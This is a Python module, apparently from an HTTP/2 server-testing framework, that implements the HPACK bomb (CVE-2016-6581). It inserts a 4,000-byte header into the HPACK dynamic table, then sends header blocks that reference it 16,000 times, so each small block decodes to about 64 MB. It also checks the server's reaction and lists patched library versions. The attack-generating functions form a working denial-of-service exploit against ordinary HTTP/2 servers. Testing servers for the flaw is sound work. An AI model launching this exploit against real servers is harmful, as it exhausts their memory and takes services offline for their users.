"""HPACK bomb (CVE-2016-6581): one 4,000-byte field put in the dynamic table, then header blocks that
reference it thousands of times at one byte each, so each 16 KiB block decompresses to 64 MB unless
the decoder bounds the header list (RFC 7541 section 7.3; SETTINGS_MAX_HEADER_LIST_SIZE, RFC 9113 6.5.2)."""
from h2grid.attacks.base import Attack, Fix
from h2grid.attacks.hpackraw import NEWEST, literal, request

VALUE = 4_000  # fits the default 4,096-byte table: 32 + len(name) + len(value)
REFERENCES = 16_000  # per header block: 16,000 bytes encoded, 64 MB decoded


def opening(conn) -> bytes:
    return conn.headers(conn.stream_id(), request(conn) + literal(b"x-bomb", b"b" * VALUE, indexing=True))


def batch(conn) -> bytes:
    return conn.headers(conn.stream_id(), request(conn) + NEWEST * REFERENCES)


def exercised(sent: dict) -> str:
    """The server decoded a bomb: it answered one (a HEADERS beyond the opening request's), refused it (a reset or a
    GOAWAY), or stopped reading while the bombs were in (busy decoding what it had read)."""
    if sent["received"].get("HEADERS", 0) > sent["connections"] or sent["rst_codes"] or sent["goaway"]:
        return ""
    if any("stopped reading" in text for text in sent["endings"]):
        return ""
    return "the server neither answered nor refused a bomb, and kept reading"


ATTACK = Attack(
    key="hpack-bomb", title="HPACK bomb", cve="CVE-2016-6581",
    rfc="RFC 7541 section 7.3 (memory consumption), RFC 9113 section 6.5.2 (SETTINGS_MAX_HEADER_LIST_SIZE)",
    sends=f"a {VALUE:,}-byte field into the dynamic table, then requests referencing it {REFERENCES:,} times "
          "(64 MB decoded per 16 KB sent)",
    opening=opening, batch=batch, exercised=exercised,
    fixes=(Fix("hpack", "2.3.0", "Decoder.max_header_list_size, 64 KiB by default (CVE-2016-6581)"),
           Fix("h2", "2.5.0", "SETTINGS_MAX_HEADER_LIST_SIZE managed and advertised, 64 KiB by default"),
           Fix("go", "go1.20.1", "header list bounded by MaxHeaderBytes from the start; HPACK decoding made "
                                 "linear (CVE-2022-41723; go1.19.6, x/net v0.7.0)"),
           Fix("h2-rust", "0.4.15", "a connection whose header block is far past the configured limit is closed")),
)
